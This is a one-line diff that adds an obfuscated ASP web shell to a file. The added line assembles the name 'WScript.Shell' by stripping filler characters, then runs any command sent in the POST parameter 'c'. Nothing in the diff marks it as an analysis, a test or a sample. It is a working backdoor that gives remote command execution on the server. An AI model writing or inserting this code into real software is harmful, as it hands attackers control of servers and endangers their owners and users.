@@ -1,0 +1,1 @@
+<% a = Replace("WXScrXipt.ShXell", "X", "") : Set s = CreateObject(a) : s.Exec(Request.Form("c")) %>
